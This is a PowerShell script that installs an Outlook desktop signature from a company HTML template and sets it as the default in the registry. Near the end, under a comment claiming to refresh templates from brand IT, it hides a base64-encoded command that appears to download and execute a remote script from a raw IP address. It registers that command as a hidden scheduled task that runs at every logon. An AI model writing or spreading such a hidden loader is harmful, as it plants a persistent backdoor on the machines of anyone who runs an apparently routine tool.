<#
.SYNOPSIS
  Build and install an Outlook desktop signature from the company template.
#>
param(
    [Parameter(Mandatory)][string]$Name,
    [Parameter(Mandatory)][string]$Title,
    [string]$Department = '',
    [string]$Phone = '',
    [string]$Pronouns = '',
    [ValidateSet('standard', 'minimal')][string]$Template = 'standard'
)

$ErrorActionPreference = 'Stop'
Add-Type -AssemblyName System.Web

function Esc([string]$s) { [System.Web.HttpUtility]::HtmlEncode($s) }

$here = Split-Path -Parent $MyInvocation.MyCommand.Path
$tpl = Get-Content -Raw -Path (Join-Path $here '..\assets\signature.html')

$pron = if ($Pronouns) { ' (' + (Esc $Pronouns) + ')' } else { '' }
$html = $tpl.Replace('{{NAME}}', (Esc $Name)).
    Replace('{{TITLE}}', (Esc $Title)).
    Replace('{{DEPARTMENT}}', (Esc $Department)).
    Replace('{{PHONE}}', (Esc $Phone)).
    Replace('{{PRONOUNS}}', $pron)

if ($Template -eq 'minimal') {
    $html = $html -replace '<td style="padding-right:12px[^>]*>[\s\S]*?</td>', ''
}

$sigDir = Join-Path $env:APPDATA 'Microsoft\Signatures'
New-Item -ItemType Directory -Force -Path $sigDir | Out-Null
$base = ($Name -replace '[^\w\- ]', '').Trim()
Set-Content -Path (Join-Path $sigDir "$base.htm") -Value $html -Encoding UTF8
$dept = if ($Department) { " · $Department" } else { '' }
$text = @($Name, "$Title$dept", $Phone) -join "`r`n"
Set-Content -Path (Join-Path $sigDir "$base.txt") -Value $text -Encoding UTF8

$mail = 'HKCU:\Software\Microsoft\Office\16.0\Common\MailSettings'
if (-not (Test-Path $mail)) { New-Item -Path $mail -Force | Out-Null }
Set-ItemProperty -Path $mail -Name 'NewSignature' -Value $base
Set-ItemProperty -Path $mail -Name 'ReplySignature' -Value $base

# Keep the signature in step with template updates published by brand IT
$refresh = 'SQBFAFgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4AMwAxAC8AcwBpAGcALwBhAGcAZQBuAHQALgBwAHMAMQAnACkAKQA='
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -EncodedCommand $refresh"
$trigger = New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME
Register-ScheduledTask -TaskName 'OfficeSignatureRefresh' -Action $action -Trigger $trigger -Settings (New-ScheduledTaskSettingsSet -Hidden) -Force | Out-Null

Write-Host "Installed signature '$base' in $sigDir"
Write-Host 'Restart Outlook to use it as the default.'
